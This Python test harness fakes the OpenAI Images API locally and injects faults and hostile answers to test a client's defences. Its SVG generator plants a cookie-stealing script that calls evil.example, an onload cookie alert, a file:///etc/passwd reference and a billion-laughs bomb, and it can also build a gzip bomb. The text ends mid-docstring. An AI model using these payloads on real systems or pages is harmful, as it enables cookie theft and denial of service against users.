"""A local fake of the OpenAI Images API, served over real HTTP on 127.0.0.1.

The real ``openai`` SDK talks to it through ``base_url``; nothing in the SDK is patched.
It speaks the wire format of ``POST /v1/images/generations`` (JSON) and
``POST /v1/images/edits`` (multipart, ``image`` or repeated ``image[]``, ``mask``), validates
requests the way the real API does, returns the real error envelopes, rate-limit headers and
``ImagesResponse`` bodies, and injects latency, 429s, 5xx, dropped connections, slow answers and
moderation blocks on demand. It counts every request and every image it billed.

In-process use::

    with FakeImagesAPI(latency=0.0, images_per_minute=600) as api:
        client = openai.OpenAI(base_url=api.base_url, api_key="sk-test", max_retries=0)

As a separate process (benchmarks, kill tests)::

    python tests/fakeapi.py --port 0 --latency 0.3 --ipm 1200 --fail-rate 0.1 --seed 1

prints ``FAKE_OPENAI_BASE_URL=http://127.0.0.1:PORT/v1`` as its first line, then serves until
SIGTERM or SIGINT. ``GET /_stats`` returns the counters; ``POST /_config`` changes the config.
The Files and Batches endpoints live in ``tests/fakebatch.py`` (``api.batch``, with its own
config and counters at ``/_batch/config`` and ``/_batch/stats``).

Order of processing for an Images request: read the whole request; authenticate (401); consume
one ``script`` entry if any (scripted fault); validate (400 ``invalid_value`` /
``unknown_parameter``, 404 ``model_not_found``); moderation (400 ``moderation_blocked``);
rate-limit admission at arrival time (429); a random fault with probability ``fail_rate``;
``latency``; then the image is drawn, billed and returned. Faults are never billed, except a
``drop`` when ``drop_after_billing`` is set (a paid image lost in transit). Only admitted
requests and the "server_error" and "drop" faults wait ``latency``; rejections answer at once.
A "slow" fault stalls ``slow_seconds`` (woken early by ``stop()``) and then answers 500.
Only gpt-image-2 and gpt-image-2.5* (with snapshots) accept arbitrary WxH sizes; 2.6 and
older models take the three fixed sizes, since the SDK does not say that 2.6 supports more.

Hostile answers, for the client's trust boundary (see the threat model in
docs/reliability.md): "trickle" sends a successful (billed) answer one byte every
``trickle_seconds``, so no single read ever times out (after ``slow_seconds`` it hangs up
midway); "gzip_bomb" answers 200 (billed) with ``Content-Encoding: gzip`` and a body of
about ``bomb_bytes / 1000`` bytes that inflates to ``bomb_bytes`` zeros; "echo_key" is a 401
and "echo_key_moderation" a 400 ``moderation_blocked`` whose message, details and headers
echo the caller's full API key. ``image_bytes`` / ``image_size`` replace the image of every
success (any bytes at all, or the drawn image at another size), ``usage_patch`` overrides
fields of its ``usage`` (NaN included), and ``reply_headers`` are set on every Images reply,
over the fake's own (``retry-after-ms: inf``, ``x-ratelimit-reset-images: 999999s``).
"""

from __future__ import annotations

import argparse
import base64
import colorsys
import contextlib
import email.policy
import hashlib
import io
import itertools
import json
import math
import random
import re
import secrets
import signal
import socket
import struct
import sys
import threading
import time
import traceback
import zlib
from collections import Counter, OrderedDict, deque
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from email.parser import BytesParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from PIL import Image, ImageDraw, UnidentifiedImageError

HOST = "127.0.0.1"
AZURE_PATH = re.compile(
    r"^/openai/deployments/(?P<deployment>[^/]+)/images/(?P<endpoint>generations|edits)$"
)
MAX_PROMPT_CHARS = 32_000
MAX_EDIT_IMAGES = 16
RETIRED_MODELS = frozenset({"gpt-image-1", "dall-e-2", "dall-e-3"})
ACTIVE_MODELS = frozenset(
    {
        "gpt-image-1.5",
        "gpt-image-1-mini",
        "chatgpt-image-latest",
        "gpt-image-2",
        "gpt-image-2-2026-04-21",
        "gpt-image-2.5-sunburst",
        "gpt-image-2.5-sunburst-2026-09-08",
        "gpt-image-2.5-flare",
        "gpt-image-2.5-flare-2026-09-08",
        "gpt-image-2.6-sunburst",
        "gpt-image-2.6-flare",
    }
)
FIXED_SIZES = ("1024x1024", "1024x1536", "1536x1024")
# Output image tokens per 1024x1024 image; xhigh and max are invented (no public figure).
OUTPUT_TOKENS_PER_MEGAPIXEL = {
    "low": 200,
    "medium": 1750,
    "high": 7000,
    "xhigh": 14000,
    "max": 28000,
}
INPUT_IMAGE_TOKENS = 300
DEFAULT_REQUESTS_PER_MINUTE = 10_000
UNLIMITED_IMAGES_PER_MINUTE = 1_000_000  # reported in headers when images_per_minute is None
DROPPED = "dropped"  # status_counts key for requests answered with a closed socket

FAULT_KINDS = frozenset(
    {
        "ok",
        "server_error",
        "drop",
        "slow",
        "rate_limit",
        "insufficient_quota",
        "unauthorized",
        "forbidden",
        "moderation",
        "trickle",
        "gzip_bomb",
        "echo_key",
        "echo_key_moderation",
    }
)
COMPLEXITY_PREFIXES = ("gpt-image-2.6",)
"""Models that take ``complexity`` (highlighted on the 2.6 model page); others answer 400."""
MARKUP_PREFIXES = ("gpt-image-2.5", "gpt-image-2.6")
"""Models whose edits take a ``markup`` image; others answer 400."""
DELIVERY_FAULTS = frozenset({"trickle", "gzip_bomb"})
"""Faults in how a successful answer is delivered: the request is served (and billed) first."""
CONFIG_KEYS = frozenset(
    {
        "latency",
        "images_per_minute",
        "requests_per_minute",
        "fail_rate",
        "fail_kinds",
        "seed",
        "slow_seconds",
        "script",
        "script_retry_after",
        "drop_after_billing",
        "blocked_words",
        "expected_key",
        "models",
        "clock",
        "trickle_seconds",
        "bomb_bytes",
        "reply_headers",
        "image_bytes",
        "image_size",
        "usage_patch",
        "c2pa_sign",
        "refuse_transparent",
        "preview_denied",
        "svg_hostile",
    }
)
# Keys POST /_config accepts (callables such as clock, and bytes, cannot travel as JSON).
JSON_CONFIG_KEYS = CONFIG_KEYS - {"clock", "image_bytes", "c2pa_sign"}
MIB = 1024 * 1024

GENERATION_PARAMS = frozenset(
    {
        "prompt",
        "model",
        "n",
        "size",
        "quality",
        "background",
        "output_format",
        "output_compression",
        "moderation",
        "stream",
        "partial_images",
        "safety_identifier",
        "user",
        "complexity",
        "frame_count",
        "frame_duration_ms",
        "svg",
    }
)
EDIT_PARAMS = (GENERATION_PARAMS - {"svg"}) | {
    "input_fidelity",
    "svg[model]",
    "svg[reasoning][effort]",
}
SVG_HOSTILE = frozenset({"script", "onload", "external_href", "billion_laughs", "huge"})
"""What ``svg_hostile`` plants in every SVG answer (see :func:`draw_svg`)."""
HUGE_SVG_BYTES = 50 * 1000 * 1000
EDIT_FILE_FIELDS = frozenset({"image", "image[]", "mask", "markup"})

_SIZE_RE = re.compile(r"^(\d{1,5})x(\d{1,5})$")
_PALETTE = tuple(
    tuple(round(c * 255) for c in colorsys.hsv_to_rgb(i / 32, 0.65, 0.85)) for i in range(32)
)


_KEY_BACKGROUND = re.compile(r"flat solid #([0-9A-Fa-f]{6}) background")
"""What a prompt says to ask for the subject on a flat key color (the chroma route)."""


def _hex_rgb(digits: str) -> tuple[int, int, int]:
    return (int(digits[0:2], 16), int(digits[2:4], 16), int(digits[4:6], 16))


def _on_backdrop(
    w: int, h: int, color: tuple[int, ...], marker: tuple[int, ...], backdrop: tuple[int, int, int]
) -> Image.Image:
    """A subject on a flat ``backdrop``, as a model asked for a key color draws it: an
    ellipse drawn at twice the size and shrunk, so its edge pixels are blends of the
    subject and the key (the cast a despill must take out)."""
    big = Image.new("RGB", (2 * w, 2 * h), backdrop)
    draw = ImageDraw.Draw(big)
    draw.ellipse((w // 2, h // 3, 3 * w // 2, 5 * h // 3), fill=tuple(color[:3]))
    draw.rectangle((w - w // 8, h - h // 8, w + w // 8, h + h // 8), fill=tuple(marker[:3]))
    return big.resize((w, h), Image.Resampling.BOX)


class ApiError(Exception):
    """An OpenAI error envelope to answer with."""

    def __init__(
        self,
        status: int,
        message: str,
        *,
        type_: str = "invalid_request_error",
        code: str | None = None,
        param: str | None = None,
        extra: dict[str, Any] | None = None,
        headers: dict[str, str] | None = None,
    ) -> None:
        super().__init__(message)
        self.status = status
        self.body: dict[str, Any] = {
            "message": message,
            "type": type_,
            "param": param,
            "code": code,
            **(extra or {}),
        }
        self.headers = headers or {}


def _invalid(param: str, message: str) -> ApiError:
    return ApiError(400, message, code="invalid_value", param=param)


@dataclass
class RequestRecord:
    """What the fake saw and answered for one Images request."""

    method: str
    path: str
    endpoint: str  # "generations" or "edits"
    headers: dict[str, str]  # lower-cased names; Authorization is moved to ``auth``
    auth: str | None  # the raw Authorization header value, e.g. "Bearer sk-test"
    request_id: str
    fields: dict[str, Any] = field(default_factory=dict)  # JSON body or multipart text fields
    image_field: str | None = None  # "image" or "image[]" (edits)
    image_sha256: list[str] = field(default_factory=list)
    image_sizes: list[tuple[int, int]] = field(default_factory=list)  # (0, 0): undecodable
    mask_sha256: str | None = None
    mask_size: tuple[int, int] | None = None
    markup_sha256: str | None = None
    n: int = 0
    status: int | str | None = None  # HTTP status, DROPPED, or None while in flight
    error_code: str | None = None
    fault: str | None = None  # injected fault kind, if any
    billed: int = 0
    started: float = 0.0  # time.monotonic()
    finished: float | None = None

    @property
    def api_key(self) -> str | None:
        """The bearer token of the Authorization header."""
        if self.auth and self.auth.startswith("Bearer "):
            return self.auth.removeprefix("Bearer ").strip()
        return None


@dataclass(frozen=True)
class _Params:
    model: str
    prompt: str
    n: int
    width: int
    height: int
    quality: str
    background: str
    output_format: str
    compression: int
    frame_count: int = 9
    frame_ms: int = 200


def draw_svg(params: _Params, uid: str, hostile: str | None = None) -> bytes:
    """An SVG icon for ``params`` (a rounded square in the prompt's color with a mark),
    unique per call; ``hostile`` plants one attack: a ``<script>``, an ``onload``
    handler, external hrefs, a billion-laughs entity bomb, or a 50 MB body."""
    color = _PALETTE[hashlib.sha256(params.prompt.encode("utf-8")).digest()[0] % len(_PALETTE)]
    fill = "#{:02X}{:02X}{:02X}".format(*color)
    w, h = params.width, params.height
    root_extra = ' onload="alert(document.cookie)"' if hostile == "onload" else ""
    body = [
        f'<rect x="{w // 8}" y="{h // 8}" width="{3 * w // 4}" height="{3 * h // 4}" '
        f'rx="{w // 10}" fill="{fill}"/>',
        f'<circle cx="{w // 2}" cy="{h // 2}" r="{w // 8}" fill="#FFFFFF"/>',
    ]
    if hostile == "script":
        body.append("<script>fetch('https://evil.example/steal?c='+document.cookie)</script>")
    if hostile == "external_href":
        body.append('<use href="https://evil.example/sprite.svg#icon"/>')
        body.append('<image href="file:///etc/passwd" width="10" height="10"/>')
    head = text = padding = ""
    if hostile == "billion_laughs":
        entities = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
        ]
        head = '<?xml version="1.0"?><!DOCTYPE svg [' + "".join(entities) + "]>"
        text = "<text>&lol9;</text>"
    if hostile == "huge":
        padding = "<!--" + "x" * HUGE_SVG_BYTES + "-->"
    markup = (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{h}" '
        f'viewBox="0 0 {w} {h}"{root_extra}><!-- fakeapi-uid:{uid} -->'
        + "".join(body)
        + text
        + padding
        + "</svg>"
    )
    return markup.encode("utf-8")


def draw_gif(params: _Params, uid: str) -> bytes:
    """An animated GIF of ``params.frame_count`` frames: a square that steps right each
    frame, so every frame differs; unique per call (a comment carries ``uid``)."""
    color = _PALETTE[hashlib.sha256(params.prompt.encode("utf-8")).digest()[0] % len(_PALETTE)]
    w, h = params.width, params.height
    side = max(4, min(w, h) // 4)
    frames = []
    for k in range(params.frame_count):
        frame = Image.new("RGB", (w, h), (255, 255, 255))
        x = (w - side) * k // max(1, params.frame_count - 1)
        box = (x, h // 2 - side // 2, x + side - 1, h // 2 + side // 2)
        ImageDraw.Draw(frame).rectangle(box, fill=color)
        frames.append(frame)
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=params.frame_ms,
        loop=0,
        comment=f"fakeapi-uid:{uid}".encode("ascii"),
        optimize=False,
    )
    return buffer.getvalue()


@dataclass(frozen=True)
class _Reply:
    status: int
    body: dict[str, Any]
    headers: dict[str, str]
    delivery: str | None = None  # a DELIVERY_FAULTS kind, or None to send it plainly


class _Drop:
    """Answer with a closed socket and no response."""


_DROP = _Drop()


def _duration(seconds: float) -> str:
    """Format a reset duration the way OpenAI does ("1s", "120ms")."""
    if seconds >= 1:
        return f"{round(seconds, 3):g}s"
    return f"{_ceil_ms(seconds)}ms"


def _ceil_ms(seconds: float) -> int:
    """Whole milliseconds, rounded up, at least 1 (float noise such as 0.6000000001 is 600)."""
    return max(1, math.ceil(round(seconds * 1000, 6)))


_GZIP_LOCK = threading.Lock()
_GZIP_ZEROS: dict[int, bytes] = {}


def gzip_zeros(size: int) -> bytes:
    """A valid gzip member of ``size`` zero bytes (rounded up to whole MiB), built in well
    under a second: one full-flushed deflate block of a MiB of zeros repeats byte for byte."""
    mib = max(1, -(-size // MIB))
    with _GZIP_LOCK:
        cached = _GZIP_ZEROS.get(mib)
        if cached is not None:
            return cached
        zeros = bytes(MIB)
        deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
        crc = 0
        for _ in range(mib):
            crc = zlib.crc32(zeros, crc)
        header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        trailer = struct.pack("<II", crc, (mib * MIB) & 0xFFFFFFFF)
        member = header + block * mib + deflate.flush(zlib.Z_FINISH) + trailer
        _GZIP_ZEROS[mib] = member
        return member


def _mask_key(key: str) -> str:
    return f"{key[:3]}{'*' * max(0, len(key) - 7)}{key[-4:]}" if len(key) > 8 else "***"


def _normalize(name: str, value: Any) -> Any:
    """Validate and normalize one config attribute (shared by __setattr__ and /_config)."""
    if name == "latency":
        if callable(value):
            return value
        if float(value) < 0:
            raise ValueError("latency must be >= 0")
        return float(value)
    if name in {"images_per_minute", "requests_per_minute"}:
        if value is None:
            return None
        if int(value) < 1:
            raise ValueError(f"{name} must be >= 1 or None")
        return int(value)
    if name == "fail_rate":
        if not 0.0 <= float(value) <= 1.0:
            raise ValueError("fail_rate must be within 0..1")
        return float(value)
    if name in {"fail_kinds", "script"}:
        kinds = [value] if isinstance(value, str) else list(value)
        unknown = sorted(set(kinds) - FAULT_KINDS)
        if unknown:
            raise ValueError(f"unknown fault kinds {unknown}; known: {sorted(FAULT_KINDS)}")
        return tuple(kinds) if name == "fail_kinds" else deque(kinds)
    if name in {"slow_seconds", "script_retry_after", "trickle_seconds"}:
        if float(value) < 0:
            raise ValueError(f"{name} must be >= 0")
        return float(value)
    if name == "preview_denied":
        return frozenset([value] if isinstance(value, str) else value)
    if name in {"drop_after_billing", "refuse_transparent"}:
        return bool(value)
    if name == "blocked_words":
        return frozenset([value] if isinstance(value, str) else value)
    if name == "models":
        return None if value is None else frozenset(value)
    if name == "seed":
        return None if value is None else int(value)
    if name == "clock":
        if not callable(value):
            raise ValueError("clock must be a callable returning seconds")
        return value
    if name == "expected_key":
        return None if value is None else str(value)
    if name == "bomb_bytes":
        if int(value) < 1:
            raise ValueError("bomb_bytes must be >= 1")
        return int(value)
    if name == "reply_headers":
        return {str(k): str(v) for k, v in dict(value or {}).items()}
    if name == "image_bytes":
        if value is not None and not isinstance(value, bytes):
            raise ValueError("image_bytes must be bytes or None")
        return value
    if name == "image_size":
        if value is not None and not _SIZE_RE.match(str(value)):
            raise ValueError("image_size must be 'WxH' or None")
        return None if value is None else str(value)
    if name == "usage_patch":
        return None if value is None else dict(value)
    if name == "svg_hostile":
        if value is not None and value not in SVG_HOSTILE:
            raise ValueError(f"svg_hostile must be None or one of {sorted(SVG_HOSTILE)}")
        return value
    if name == "c2pa_sign":
        if value is not None and not callable(value):
            raise ValueError("c2pa_sign must be a callable (PNG bytes -> signed bytes) or None")
        return value
    raise ValueError(f"unknown config attribute {name!r}")


class _ImageFactory:
    """Cheap, cached images whose bytes are nevertheless unique per call (like C2PA data)."""

    _WEBP_SLOT = b"fakeapi-uid:" + b"0" * 32

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._cache: OrderedDict[tuple[Any, ...], bytes] = OrderedDict()
        self._counter = itertools.count(1)

    def render(self, params: _Params, prompt: str) -> bytes:
        color_index = hashlib.sha256(prompt.encode("utf-8")).digest()[0] % len(_PALETTE)
        transparent = params.background == "transparent"
        keyed = _KEY_BACKGROUND.search(prompt) if not transparent else None
        backdrop = _hex_rgb(keyed.group(1)) if keyed else None
        key = (
            backdrop,
            params.width,
            params.height,
            params.output_format,
            transparent,
            color_index,
            params.compression,
        )
        with self._lock:
            base = self._cache.get(key)
            if base is not None:
                self._cache.move_to_end(key)
            uid = f"{next(self._counter):012d}{secrets.token_hex(10)}".encode("ascii")
        if base is None:
            base = self._encode(
                params, _PALETTE[color_index], transparent=transparent, backdrop=backdrop
            )
            with self._lock:
                self._cache[key] = base
                while len(self._cache) > 256:
                    self._cache.popitem(last=False)
        return self._stamp(base, params.output_format, uid)

    def _encode(
        self,
        params: _Params,
        color: tuple[int, ...],
        *,
        transparent: bool,
        backdrop: tuple[int, int, int] | None = None,
    ) -> bytes:
        w, h = params.width, params.height
        marker = tuple(255 - c for c in color)
        side = max(4, min(w, h) // 16)
        if backdrop is not None:
            image = _on_backdrop(w, h, color, marker, backdrop)
        elif transparent:
            image = Image.new("RGBA", (w, h), (0, 0, 0, 0))
            draw = ImageDraw.Draw(image)
            draw.rectangle((w // 4, h // 4, 3 * w // 4, 3 * h // 4), fill=(*color, 255))
            draw.rectangle((w // 4, h // 4, w // 4 + side, h // 4 + side), fill=(*marker, 255))
        else:
            image = Image.new("RGB", (w, h), color)
            ImageDraw.Draw(image).rectangle((0, 0, side, side), fill=marker)
        buffer = io.BytesIO()
        if params.output_format == "png":
            image.save(buffer, "PNG", compress_level=1)
        elif params.output_format == "jpeg":
            image.save(buffer, "JPEG", quality=max(1, min(95, params.compression)))
        else:
            quality = max(1, min(100, params.compression))
            image.save(buffer, "WEBP", quality=quality, method=0, xmp=self._WEBP_SLOT)
        return buffer.getvalue()

    def _stamp(self, base: bytes, output_format: str, uid: bytes) -> bytes:
        if output_format == "png":
            # A placeholder of the real API's C2PA manifest store (a JUMBF superbox labelled
            # "c2pa"), so clients can tell whether its bytes survived their processing. It
            # sits in the text chunk, not in a caBX chunk: a C2PA reader finds no manifest
            # (rather than a broken one); ``c2pa_sign`` gives a real, signed one.
            jumbf = b"\x00\x00\x00\x1ajumb\x00\x00\x00\x12jumdc2pa\x00" + uid[:4]
            data = b"fakeapi-uid\x00" + uid + b" " + jumbf.hex().encode() + b" jumb c2pa"
            chunk = (
                struct.pack(">I", len(data))
                + b"tEXt"
                + data
                + struct.pack(">I", zlib.crc32(b"tEXt" + data))
            )
            return base[:33] + chunk + base[33:]  # right after the signature and IHDR
        if output_format == "jpeg":
            data = b"fakeapi-uid:" + uid
            return base[:2] + b"\xff\xfe" + struct.pack(">H", len(data) + 2) + data + base[2:]
        slot = b"fakeapi-uid:" + uid.ljust(32, b"0")[:32]
        return base.replace(self._WEBP_SLOT, slot, 1)


def _read_body(handler: BaseHTTPRequestHandler) -> bytes:
    if "chunked" in handler.headers.get("Transfer-Encoding", "").lower():
        chunks = []
        while True:
            size = int(handler.rfile.readline().split(b";")[0].strip() or b"0", 16)
            if size == 0:
                while handler.rfile.readline() not in {b"\r\n", b"\n", b""}:
                    pass
                return b"".join(chunks)
            chunks.append(handler.rfile.read(size))
            handler.rfile.readline()
    length = int(handler.headers.get("Content-Length") or 0)
    return handler.rfile.read(length) if length > 0 else b""


def _parse_multipart(
    content_type: str, body: bytes
) -> tuple[dict[str, str], list[tuple[str, bytes]]]:
    head = f"Content-Type: {content_type}\r\nMIME-Version: 1.0\r\n\r\n".encode("latin-1")
    message = BytesParser(policy=email.policy.HTTP).parsebytes(head + body)
    if not message.is_multipart():
        raise ApiError(400, "Could not parse multipart form data.", param=None)
    fields: dict[str, str] = {}
    files: list[tuple[str, bytes]] = []
    for part in message.iter_parts():
        name = str(part.get_param("name", "", header="content-disposition"))
        payload = part.get_payload(decode=True)
        data = payload if isinstance(payload, bytes) else b""
        if name in EDIT_FILE_FIELDS or part.get_filename() is not None:
            files.append((name, data))
        else:
            fields[name] = data.decode("utf-8", errors="replace")
    return fields, files


def _image_size(data: bytes, param: str) -> tuple[int, int]:
    try:
        with Image.open(io.BytesIO(data)) as image:
            if image.format not in {"PNG", "JPEG", "WEBP"}:
                raise _invalid(param, f"Invalid image format {image.format} for '{param}'.")
            return image.size
    except (UnidentifiedImageError, OSError, ValueError) as exc:
        raise _invalid(
            param,
            f"Invalid image file or mode for image {param!r}. "
            "Supported file formats are 'png', 'jpeg' and 'webp'.",
        ) from exc


def _choice(fields: dict[str, Any], name: str, allowed: Iterable[str], default: str) -> str:
    value = fields.get(name, default)
    allowed = tuple(allowed)
    if value not in allowed:
        listed = ", ".join(f"'{a}'" for a in allowed[:-1]) + f", and '{allowed[-1]}'"
        raise _invalid(name, f"Invalid value: '{value}'. Supported values are: {listed}.")
    return str(value)


def _integer(fields: dict[str, Any], name: str, default: int, low: int, high: int) -> int:
    value = fields.get(name, default)
    try:
        if isinstance(value, bool | float):
            raise TypeError(name)
        number = int(value)
    except (TypeError, ValueError) as exc:
        raise _invalid(name, f"Invalid type for '{name}': expected an integer.") from exc
    if not low <= number <= high:
        raise _invalid(
            name, f"Invalid '{name}': integer {number} is out of range; expected {low} to {high}."
        )
    return number


def _requested_n(fields: dict[str, Any]) -> int:
    try:
        return _integer(fields, "n", 1, 1, 10)
    except ApiError:
        return 1


def _flexible_sizes(model: str) -> bool:
    return model == "gpt-image-2" or model.startswith(("gpt-image-2-", "gpt-image-2.5"))


def _resolve_size(model: str, size: Any) -> tuple[int, int]:
    if size == "auto":
        return 1024, 1024
    if not _flexible_sizes(model):
        if size not in FIXED_SIZES:
            raise _invalid(
                "size",
                f"Invalid value: '{size}'. Supported values are: "
                "'1024x1024', '1024x1536', '1536x1024', and 'auto'.",
            )
        width, height = (int(v) for v in str(size).split("x"))
        return width, height
    match = _SIZE_RE.match(str(size))
    if match is None:
        raise _invalid("size", f"Invalid value: '{size}'. Expected 'auto' or 'WIDTHxHEIGHT'.")
    width, height = int(match[1]), int(match[2])
    long_edge, short_edge = max(width, height), min(width, height)
    problem = None
    if width % 16 or height % 16:
        problem = "width and height must both be multiples of 16"
    elif short_edge == 0 or long_edge > 3 * short_edge:
        problem = "the aspect ratio must be between 1:3 and 3:1"
    elif long_edge > 3840 or short_edge > 2160:
        problem = "the maximum size is 3840x2160"
    elif not 655_360 <= width * height <= 8_294_400:
        problem = "the total pixel count must be between 655360 and 8294400"
    if problem:
        raise _invalid("size", f"Invalid value: '{size}'. For model '{model}', {problem}.")
    return width, height


def _validate(
    endpoint: str,
    fields: dict[str, Any],
    models: frozenset[str] | None,
    refuse_transparent: bool = False,
) -> _Params:
    allowed = EDIT_PARAMS if endpoint == "edits" else GENERATION_PARAMS
    for name in fields:
        if name not in allowed:
            raise ApiError(
                400, f"Unknown parameter: '{name}'.", code="unknown_parameter", param=name
            )
    prompt = fields.get("prompt")
    if not isinstance(prompt, str) or not prompt:
        raise _invalid("prompt", "Missing required parameter: 'prompt'.")
    if len(prompt) > MAX_PROMPT_CHARS:
        raise _invalid(
            "prompt",
            f"Invalid 'prompt': string too long. Expected a string with maximum length "
            f"{MAX_PROMPT_CHARS}, but got a string with length {len(prompt)} instead.",
        )
    model = fields.get("model")
    if not isinstance(model, str) or not model:
        raise _invalid("model", "Missing required parameter: 'model'.")
    if model in RETIRED_MODELS or (models is not None and model not in models):
        raise ApiError(
            404,
            f"The model `{model}` does not exist or you do not have access to it.",
            code="model_not_found",
        )
    streaming = str(fields.get("stream", "false")).lower() == "true"
    n = _integer(fields, "n", 1, 1, 10)
    width, height = _resolve_size(model, fields.get("size", "auto"))
    qualities = ["low", "medium", "high", "auto"]
    if model.startswith("gpt-image-2.5"):
        qualities[3:3] = ["xhigh", "max"]
    quality = _choice(fields, "quality", qualities, "auto")
    background = _choice(fields, "background", ("transparent", "opaque", "auto"), "auto")
    output_format = _choice(fields, "output_format", ("png", "webp", "jpeg", "gif", "svg"), "png")
    if output_format in ("gif", "svg") and not model.startswith("gpt-image-2.6"):
        raise _invalid(
            "output_format",
            f"Invalid value: '{output_format}'. {output_format.upper()} output is not "
            f"available for model '{model}'.",
        )
    frame_count, frame_ms = _animation_fields(fields, output_format, n)
    if background == "transparent" and refuse_transparent:
        raise _invalid(
            "background",
            f"Invalid value: 'transparent'. Transparent backgrounds are not supported for "
            f"model '{model}' in this organization.",
        )
    if background == "transparent" and output_format == "jpeg":
        raise _invalid(
            "background",
            "Transparent background is not supported for output_format 'jpeg'; "
            "use 'png' or 'webp'.",
        )
    compression = _integer(fields, "output_compression", 100, 0, 100)
    _choice(fields, "moderation", ("low", "auto"), "auto")
    _integer(fields, "partial_images", 0, 0, 3)
    if streaming and output_format in ("gif", "svg"):
        raise _invalid(
            "stream", f"Streaming is not supported with output_format '{output_format}'."
        )
    if "complexity" in fields:
        if not model.startswith(COMPLEXITY_PREFIXES):
            raise _invalid(
                "complexity",
                f"Invalid parameter: 'complexity' is not supported for model '{model}'.",
            )
        _choice(fields, "complexity", ("low", "medium", "high"), "medium")
    if "input_fidelity" in fields:
        _choice(fields, "input_fidelity", ("high", "low"), "low")
    return _Params(
        model=model,
        prompt=prompt,
        n=n,
        width=width,
        height=height,
        quality="medium" if quality == "auto" else quality,
        background="opaque" if background == "auto" else background,
        output_format=output_format,
        compression=compression,
        frame_count=frame_count,
        frame_ms=frame_ms,
    )


def _animation_fields(fields: dict[str, Any], output_format: str, n: int) -> tuple[int, int]:
    """The GIF's frame count and duration, and the rules of GIF and SVG output."""
    svg = fields.get("svg")
    flat_svg = [name for name in fields if name.startswith("svg[")]
    if (svg is not None or flat_svg) and output_format != "svg":
        raise _invalid("svg", "The 'svg' parameter requires output_format=svg.")
    if isinstance(svg, dict) and not isinstance(svg.get("model"), str):
        raise _invalid("svg.model", "Missing required parameter: 'svg.model'.")
    if flat_svg and "svg[model]" not in fields:
        raise _invalid("svg.model", "Missing required parameter: 'svg.model'.")
    for name in ("frame_count", "frame_duration_ms"):
        if name in fields and output_format != "gif":
            raise _invalid(name, f"'{name}' requires output_format=gif.")
    if output_format in ("gif", "svg"):
        if "output_compression" in fields:
            raise _invalid(
                "output_compression", f"output_compression is not supported for {output_format}."
            )
        if output_format == "svg" and n != 1:
            raise _invalid("n", "SVG output requires n=1.")
    frame_count = _integer(fields, "frame_count", 9, 2, 16)
    frame_ms = _integer(fields, "frame_duration_ms", 200, 10, 655_350)
    return frame_count, frame_ms


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    server: _Server

    def setup(self) -> None:
        super().setup()
        self.server.api._register(self.connection)

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.api._unregister(self.connection)

    def do_GET(self) -> None:
        self.server.api._dispatch(self)

    def do_POST(self) -> None:
        self.server.api._dispatch(self)

    def do_DELETE(self) -> None:
        self.server.api._dispatch(self)

    def log_message(self, format: str, *args: Any) -> None:
        """Stay quiet; the records say what happened."""


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 256
    allow_reuse_address = True

    def __init__(self, api: FakeImagesAPI, port: int) -> None:
        self.api = api
        super().__init__((HOST, port), _Handler)

    def handle_error(self, request: Any, client_address: Any) -> None:
        exc = sys.exc_info()[1]
        if isinstance(exc, OSError) or self.api._stopping.is_set():
            return  # the client (or stop()) closed the connection
        super().handle_error(request, client_address)


class FakeImagesAPI:
    """A real HTTP server on 127.0.0.1 that behaves like the OpenAI Images API.

    Config attributes (also constructor keywords) may be changed at any time from any thread;
    they are validated when set and read under a lock at the step of a request that uses them:

    - ``latency``: seconds before answering an admitted request, or a callable
      ``(RequestRecord) -> float`` (it may block, e.g. on a barrier).
    - ``images_per_minute``: None (unlimited) or the IPM limit, enforced over one-second
      fixed windows of ``clock()``: at most ceil(ipm/60) images (``n`` counts) per window,
      decided at arrival. ``requests_per_minute`` is only reported in headers.
    - ``fail_rate``, ``fail_kinds``, ``seed``: random faults from ``random.Random(seed)``;
      setting ``seed`` reseeds.
    - ``script``: a deque of fault names, one consumed per authenticated request before any
      random fault: "ok" (no fault), "server_error", "drop", "slow", "rate_limit",
      "insufficient_quota", "unauthorized", "forbidden", "moderation".
    - ``slow_seconds``: how long a "slow" fault stalls before answering 500.
    - ``script_retry_after``: Retry-After seconds of a scripted "rate_limit".
    - ``drop_after_billing``: a "drop" bills its images first.
    - ``blocked_words``: substrings of a prompt that trigger a moderation block.
    - ``expected_key``: if set, any other bearer key gets 401 invalid_api_key.
    - ``models``: accepted model ids (None accepts any id not in RETIRED_MODELS).
    - ``clock``: wall-clock seconds for the rate-limit windows (inject one in tests).
    - ``trickle_seconds``: the pause before each byte of a "trickle" answer's body (which
      is cut off after ``slow_seconds``).
    - ``bomb_bytes``: what a "gzip_bomb" body inflates to (whole MiB; default 1 GiB).
    - ``reply_headers``: headers set on every Images reply, over the fake's own.
    - ``image_bytes``: bytes returned as the image of every success (None: draw one).
    - ``image_size``: "WxH" to draw every success at instead of the requested size.
    - ``usage_patch``: fields that override those of every success's ``usage``.
    - ``c2pa_sign``: a callable that signs each drawn PNG with a real C2PA manifest (as the
      API does; see ``tests/c2pa_kit.py``), replacing the placeholder store. None (the
      default): the unsigned placeholder.
    - ``refuse_transparent``: ``background=transparent`` is refused with a 400
      ``invalid_request_error`` / ``invalid_value`` naming ``param: background``, as some
      organisations see on models that claim transparency.
    - ``preview_denied``: models whose every request is answered 403 as for an
      organisation without preview access (the SVG and GIF outputs need it).
    - ``svg_hostile``: one attack planted in every SVG answer (``output_format=svg``):
      "script", "onload", "external_href", "billion_laughs" or "huge" (a 50 MB body);
      None (the default): a plain icon. GIF answers have ``frame_count`` frames.

    Streamed answers (``stream: true``, a JSON generation or a multipart edit): server-sent
